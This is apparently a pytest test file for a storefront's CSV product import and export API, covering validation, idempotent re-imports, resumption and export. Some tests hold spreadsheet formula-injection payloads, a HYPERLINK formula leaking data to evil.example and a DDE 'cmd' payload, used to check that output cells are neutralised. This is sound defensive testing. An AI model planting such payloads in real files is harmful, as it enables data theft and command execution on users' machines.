"""CSV import and export over the API: `POST /api/v1/products/import`, the job's progress, its
refused rows as CSV, idempotent re-imports (SKU is the key), resuming, and `GET .../export`.

Tasks run in-process here (eager, after the test's commit callbacks); test_import_worker.py runs them
through a real worker."""

from __future__ import annotations

import csv
import io

import pytest

from storefront.catalog import imports
from storefront.catalog.models import Category, ImportJob, ImportRowError, Product
from tests.storefront.conftest import client_for, csv_bytes, csv_upload, product_rows

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("eager_tasks")]

HEADER = ["sku", "title", "description", "price", "currency", "stock", "status", "category", "tags"]


@pytest.fixture
def upload(api, django_capture_on_commit_callbacks):
    """POST a file and run its import (queued after commit) before returning the job as the API shows it."""

    def post(rows, name="products.csv"):
        with django_capture_on_commit_callbacks(execute=True):
            response = api.post("/api/v1/products/import", {"file": csv_upload(rows, name)}, format="multipart")
        assert response.status_code == 202, response.json()
        return api.get(f"/api/v1/products/import/{response.json()['id']}").json()

    return post


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def test_an_upload_imports_its_rows_and_reports_progress(api, in_store, upload):
    job = upload(product_rows(25))

    assert job["status"] == "succeeded"
    assert (job["total_rows"], job["processed_rows"]) == (25, 25)
    assert (job["created"], job["updated"], job["failed"]) == (25, 0, 0)
    assert job["percent"] == 100 and job["errors_url"] is None
    assert Product.objects.count() == 25
    product = Product.objects.get(sku="SKU-0000003")
    assert (product.title, product.price, product.stock, product.status) == ("Product 3", 103, 3, "active")


def test_invalid_rows_are_refused_with_their_row_number_and_valid_rows_saved(api, in_store, upload):
    rows = [
        HEADER,
        ["OK-1", "Sourdough", "", "450", "GBP", "3", "active", "bread", "vegan, Rye"],
        ["BAD-1", "Jam", "", "-5", "GBP", "1", "active", "", ""],
        ["", "No sku", "", "100", "XYZ", "1", "active", "", ""],
        ["OK-2", "Rye", "", "520", "", "", "", "", ""],
        ["SHORT", "Too few"],
    ]

    job = upload(rows, name="spring.csv")

    assert (job["processed_rows"], job["created"], job["failed"]) == (5, 2, 3)
    assert set(Product.objects.values_list("sku", flat=True)) == {"OK-1", "OK-2"}
    assert Product.objects.get(sku="OK-1").tags == ["vegan", "rye"]
    assert Product.objects.get(sku="OK-1").category.slug == "bread"
    report = read_csv(api.get(job["errors_url"]))
    assert job["errors_url"] == f"/api/v1/products/import/{job['id']}/errors.csv"
    assert report[0] == [*HEADER, "row", "error"]
    assert [(r[-2], r[-1]) for r in report[1:]] == [
        ("3", "price: Price cannot be negative."),
        ("4", "sku: SKU is required.; currency: 'XYZ' is not an ISO 4217 currency code (e.g. GBP, EUR, USD)."),
        ("6", "The row has 2 values but the header has 9 columns."),
    ]
    # The row as uploaded, but for the leading ' that keeps a spreadsheet from reading -5 as a formula.
    assert report[1][:9] == ["BAD-1", "Jam", "", "'-5", "GBP", "1", "active", "", ""]


def test_the_error_report_never_hands_a_spreadsheet_a_formula(api, in_store, upload):
    rows = [
        HEADER,
        ["EVIL-1", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1)", "+12", "=EUR", "", "", "", ""],
        ["EVIL-2", "\t=cmd|' /C calc'!A0", "-1+1", "4.50", "", "", "", "", ""],
    ]

    job = upload(rows)

    assert (job["created"], job["failed"]) == (0, 2)
    assert not Product.objects.exists()
    report = read_csv(api.get(job["errors_url"]))
    assert report[1] == [
        "EVIL-1",
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "'@SUM(1)",
        "'+12",
        "'=EUR",
        "",
        "",
        "",
        "",
        "2",
        "currency: '=EUR' is not an ISO 4217 currency code (e.g. GBP, EUR, USD).",
    ]
    assert report[2][1:4] == ["'=cmd|' /C calc'!A0", "'-1+1", "4.50"]
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(formula_starts) for row in report for cell in row)


def test_a_corrected_error_report_imports_as_it_is(api, in_store, upload):
    job = upload([HEADER, ["BAD-1", "Jam", "", "-5", "GBP", "1", "active", "", ""]])
    report = read_csv(api.get(job["errors_url"]))
    report[1][3] = "500"

    fixed = upload(report)

    assert (fixed["created"], fixed["failed"]) == (1, 0)
    assert Product.objects.get(sku="BAD-1").price == 500


def test_a_product_list_read_before_an_import_shows_what_it_imported(api, in_store, upload):
    upload(product_rows(2))
    before = api.get("/api/v1/products").json()  # this page is now cached
    assert before["count"] == 2

    # One product updated, two new: bulk writes send no model signals, so the import must clear the cache.
    upload(product_rows(3, start=1, price=900))

    after = api.get("/api/v1/products").json()
    assert after["count"] == 4
    prices = {product["sku"]: product["price"] for product in after["results"]}
    assert prices == {"SKU-0000000": 100, "SKU-0000001": 901, "SKU-0000002": 902, "SKU-0000003": 903}


def test_importing_the_same_file_again_changes_nothing(api, in_store, upload):
    rows = product_rows(30)
    upload(rows)
    before = list(Product.objects.order_by("sku").values_list("sku", "title", "price", "stock", "status", "tags"))

    again = upload(rows)

    assert (again["created"], again["updated"], again["failed"]) == (0, 30, 0)
    after = list(Product.objects.order_by("sku").values_list("sku", "title", "price", "stock", "status", "tags"))
    assert after == before
    assert Product.objects.count() == 30


def test_columns_a_file_leaves_out_are_kept_on_existing_products(api, in_store, upload):
    upload([HEADER, ["JAM", "Jam", "Damson", "300", "GBP", "12", "active", "preserves", "fruit"]])

    upload([["sku", "title", "price"], ["JAM", "Damson jam", "350"]])

    jam = Product.objects.get(sku="JAM")
    assert (jam.title, jam.price, jam.stock, jam.status, jam.category.slug, jam.tags, jam.description) == (
        "Damson jam",
        350,
        12,
        "active",
        "preserves",
        ["fruit"],
        "Damson",
    )


def test_the_last_row_for_a_sku_in_a_file_wins(api, in_store, upload):
    job = upload([["sku", "title", "price"], ["JAM", "First", "1"], ["JAM", "Second", "2"]])

    assert (job["created"], job["updated"]) == (1, 1)
    assert Product.objects.get(sku="JAM").title == "Second"


def test_categories_named_in_a_file_are_made_once(api, in_store, upload):
    Category.objects.create(name="Bread", slug="bread")

    upload([["sku", "title", "price", "category"], ["A", "A", "1", "bread"], ["B", "B", "1", "spring-cakes"]])

    made = sorted(Category.objects.values_list("slug", "name"))
    assert made == [("bread", "Bread"), ("spring-cakes", "Spring cakes")]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "file is empty."),
        (b"sku,title\nA,B\n", "Missing required column(s): price."),
        (b"sku,title,price,colour\n", "Unknown column(s) 'colour'"),
        ("sku,title,price\nA,Caf\u00e9,1\n".encode("latin-1"), "The file is not UTF-8 text"),
    ],
)
def test_an_unusable_file_is_a_400_and_no_job_is_made(
    api, in_store, media_root, django_capture_on_commit_callbacks, content, message
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    with django_capture_on_commit_callbacks() as queued:
        response = api.post(
            "/api/v1/products/import", {"file": SimpleUploadedFile("x.csv", content)}, format="multipart"
        )

    assert response.status_code == 400
    assert list(response.json()) == ["file"] and message in response.json()["file"][0]
    assert not ImportJob.objects.exists()
    assert not Product.objects.exists()
    assert not [path for path in media_root.rglob("*") if path.is_file()]
    assert queued == []  # no import task


def test_a_file_beyond_the_size_limit_is_refused_and_nothing_is_stored(
    api, in_store, media_root, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(imports, "MAX_UPLOAD_BYTES", 100)

    with django_capture_on_commit_callbacks() as queued:
        response = api.post("/api/v1/products/import", {"file": csv_upload(product_rows(10))}, format="multipart")

    assert response.status_code == 400
    assert response.json() == {"file": ["The file is larger than 100 bytes; split it into parts."]}
    assert not ImportJob.objects.exists()
    assert not Product.objects.exists()
    assert not [path for path in media_root.rglob("*") if path.is_file()]
    assert queued == []  # no import task


def test_the_error_report_waits_for_the_import_to_finish(api, in_store):
    # No commit callbacks run here: the import stays queued.
    response = api.post("/api/v1/products/import", {"file": csv_upload(product_rows(3))}, format="multipart")
    job_id = response.json()["id"]

    assert response.json()["status"] == "pending"
    assert api.get(f"/api/v1/products/import/{job_id}/errors.csv").status_code == 409


def test_a_clean_import_has_no_error_report(api, in_store, upload):
    job = upload(product_rows(2))

    assert api.get(f"/api/v1/products/import/{job['id']}/errors.csv").status_code == 404


def test_past_imports_are_listed_newest_first(api, in_store, upload):
    upload(product_rows(1), name="first.csv")
    upload(product_rows(1), name="second.csv")

    listed = api.get("/api/v1/products/import").json()

    assert listed["count"] == 2
    assert [j["file_name"] for j in listed["results"]] == ["second.csv", "first.csv"]


class WorkerKilled(BaseException):
    """Stands for SIGKILL: nothing in the import gets to handle it."""


def test_an_import_killed_part_way_resumes_after_its_last_committed_batch(in_store, monkeypatch):
    monkeypatch.setattr(imports, "BATCH_SIZE", 10)
    rows = product_rows(35)
    rows[12][3] = "-1"  # one refused row, in the second batch
    job = imports.start_import(csv_upload(rows))
    real_batch = imports._import_batch
    calls = []

    def dies_on_the_third_batch(*args):
        calls.append(1)
        if len(calls) == 3:
            raise WorkerKilled
        return real_batch(*args)

    monkeypatch.setattr(imports, "_import_batch", dies_on_the_third_batch)
    with pytest.raises(WorkerKilled):
        imports.run_import(job.pk)
    job.refresh_from_db()
    assert (job.status, job.processed_rows, job.created_count, job.failed_count) == ("running", 20, 19, 1)

    monkeypatch.setattr(imports, "_import_batch", real_batch)
    imports.run_import(job.pk)  # the redelivered task

    job.refresh_from_db()
    assert (job.status, job.processed_rows, job.created_count, job.updated_count, job.failed_count) == (
        "succeeded",
        35,
        34,
        0,
        1,
    )
    assert Product.objects.count() == 34
    assert ImportRowError.objects.filter(job=job).count() == 1


def test_a_finished_import_run_again_does_nothing(in_store):
    job = imports.start_import(csv_upload(product_rows(3)))
    imports.run_import(job.pk)

    again = imports.run_import(job.pk)

    assert (again.status, again.processed_rows, again.created_count) == ("succeeded", 3, 3)


def test_the_export_is_the_import_format_and_imports_back_unchanged(api, in_store, upload):
    Category.objects.create(name="Bread", slug="bread")
    Product.objects.create(
        sku="B-1",
        title="=cmd|' /C calc'!A0",
        description='Line one\nline two, with "quotes"',
        price=450,
        stock=2,
        status="active",
        category=Category.objects.get(),
        tags=["vegan", "rye"],
    )
    Product.objects.create(sku="A-1", title="Plain", price=0, currency="JPY")

    exported = api.get("/api/v1/products/export")
    rows = read_csv(exported)

    assert exported.status_code == 200 and exported.streaming
    assert exported["Content-Type"] == "text/csv; charset=utf-8"
    assert rows[0] == HEADER
    assert rows[1] == ["A-1", "Plain", "", "0", "JPY", "0", "draft", "", ""]
    assert rows[2][1] == "'=cmd|' /C calc'!A0"  # a spreadsheet shows it as text, never runs it
    again = upload(rows)
    assert (again["updated"], again["failed"]) == (2, 0)
    assert read_csv(api.get("/api/v1/products/export")) == rows


def test_the_export_takes_the_lists_filters(api, in_store):
    Product.objects.create(sku="A", title="A", price=1, status="active")
    Product.objects.create(sku="B", title="B", price=1, status="draft")

    rows = read_csv(api.get("/api/v1/products/export?status=active"))

    assert [r[0] for r in rows] == ["sku", "A"]


def test_csv_bytes_helper_writes_what_the_reader_reads():
    assert list(csv.reader(io.StringIO(csv_bytes([["a", "b,c"]]).decode()))) == [["a", "b,c"]]


def test_the_export_is_read_in_the_stores_schema_though_streamed_after_the_view_returns(store):
    # No `in_store` here: the test stays in `public`, as the server does while it streams the body.
    api = client_for(store, store.token)
    api.post("/api/v1/products", {"title": "Jam", "price": 300, "sku": "JAM"}, format="json")

    rows = read_csv(api.get("/api/v1/products/export"))

    assert [r[0] for r in rows] == ["sku", "JAM"]
